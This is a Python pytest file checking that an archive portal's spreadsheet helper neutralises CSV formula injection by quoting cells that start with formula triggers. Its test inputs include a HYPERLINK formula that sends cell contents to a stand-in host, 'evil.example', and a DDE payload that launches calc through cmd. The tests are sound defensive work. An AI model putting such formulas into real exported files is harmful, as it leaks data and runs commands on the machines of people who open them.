"""archive_portal.lib.spreadsheet: CSV cells that never run as formulas (OWASP CSV injection)."""

import csv
import io

import pytest

from archive_portal.lib.spreadsheet import SafeWriter, spreadsheet_safe


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+82-2-120", "'+82-2-120"),
        ("서울=도시", "서울=도시"),
        ("Seoul", "Seoul"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-12.5%", "-12.5%"),
        ("", ""),
        (None, ""),
        (-3, -3),
    ],
)
def test_formula_triggers_are_quoted_numbers_are_not(cell, written):
    assert spreadsheet_safe(cell) == written


def test_the_writer_quotes_every_cell_of_every_row():
    out = io.StringIO()
    SafeWriter(out).writerows([["=1+1", "ok"], ["@x", 2]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["'@x", "2"]]
